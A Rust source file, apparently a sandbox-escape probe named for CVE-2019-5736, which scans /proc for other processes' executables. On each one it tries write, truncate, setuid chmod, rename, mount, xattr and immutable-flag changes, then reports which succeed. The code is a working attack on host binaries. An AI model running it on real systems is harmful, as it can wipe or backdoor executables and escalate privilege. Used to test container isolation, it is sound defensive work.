//! CVE-2019-5736: the programs that run beside us, by their /proc/PID/exe.

use std::{
    ffi::CString,
    fs, io,
    os::{
        fd::{AsRawFd, FromRawFd, OwnedFd},
        unix::{
            ffi::OsStrExt,
            fs::{MetadataExt, OpenOptionsExt, chown, symlink},
        },
    },
    path::{Path, PathBuf},
    thread,
    time::{Duration, Instant},
};

/// For a while, as they come and go.
const WHILE: Duration = Duration::from_millis(300);

/// Tries on all that it finds but itself and `spared`, and says `tried N` at the end.
pub fn attack(spared: &[String]) {
    let file = |path: &str| fs::metadata(path).map(|status| (status.dev(), status.ino())).ok();
    let spared: Vec<_> = spared.iter().map(|path| file(path)).chain([file("/proc/self/exe")]).collect();
    let mut tried = 0;
    let mut held = Vec::new();
    let start = Instant::now();
    while start.elapsed() < WHILE {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let exe = entry.path().join("exe");
            // Kernel threads, and those that show nothing of themselves, have no file.
            let Ok(status) = fs::metadata(&exe) else { continue };
            if spared.contains(&Some((status.dev(), status.ino()))) {
                continue;
            }
            tried += 1;
            change(&exe);
            // Held open past the end of its process, when it is no text that is busy any more (runc's exploit).
            held.extend(fs::OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe));
        }
        held.truncate(500);
        thread::sleep(Duration::from_micros(200));
    }
    held.iter().for_each(|file| change(&PathBuf::from(format!("/proc/self/fd/{}", file.as_raw_fd()))));
    println!("tried {tried}");
}

fn change(exe: &Path) {
    let Ok(name) = CString::new(exe.as_os_str().as_bytes()) else { return };
    let said = |what: &str, done: bool| {
        if done {
            println!("{what} {}", exe.display());
        }
    };
    let open = |options: &mut fs::OpenOptions| options.open(exe).is_ok();
    said("write", open(fs::OpenOptions::new().write(true)));
    said("append", open(fs::OpenOptions::new().append(true)));
    said("read and write", open(fs::OpenOptions::new().read(true).write(true)));
    said("truncate", open(fs::OpenOptions::new().write(true).truncate(true)));
    said("chown", chown(exe, Some(1), Some(1)).is_ok());
    said("rename", fs::rename(exe, "/stolen").is_ok());
    said("remove", fs::remove_file("/stolen").is_ok());
    // SAFETY: C strings, numbers, and structures that these calls read.
    unsafe {
        said("chmod", libc::chmod(name.as_ptr(), 0o4777) == 0);
        said("truncate(2)", libc::truncate(name.as_ptr(), 0) == 0);
        said("utimensat", libc::utimensat(libc::AT_FDCWD, name.as_ptr(), std::ptr::null(), 0) == 0);
        let value = b"x";
        for key in [c"user.attack", c"trusted.attack", c"security.attack", c"system.posix_acl_access"] {
            let done = libc::setxattr(name.as_ptr(), key.as_ptr(), value.as_ptr().cast(), 1, 0) == 0;
            said("setxattr", done);
        }
        let cwd = libc::AT_FDCWD;
        said("link", libc::linkat(cwd, name.as_ptr(), cwd, c"/linked".as_ptr(), libc::AT_SYMLINK_FOLLOW) == 0);
        said(
            "mount",
            libc::mount(name.as_ptr(), c"/tmp".as_ptr(), std::ptr::null(), libc::MS_BIND, std::ptr::null()) == 0,
        );
        let file = libc::open(name.as_ptr(), libc::O_RDONLY);
        if file >= 0 {
            let file = OwnedFd::from_raw_fd(file);
            let mut flags = 0x10; // FS_IMMUTABLE_FL
            said("chattr", libc::ioctl(file.as_raw_fd(), 0x4008_6602, &mut flags) == 0);
            said("fchmod", libc::fchmod(file.as_raw_fd(), 0o4777) == 0);
            said("fallocate", libc::fallocate(file.as_raw_fd(), 2, 0, 4096) == 0);
        }
    }
    let _ = symlink(exe, "/through").map(|()| said("write through a link", open_through()));
    let _ = fs::remove_file("/through");
}

fn open_through() -> bool {
    fs::OpenOptions::new().write(true).open("/through").map(drop).map_err(|error: io::Error| error).is_ok()
}
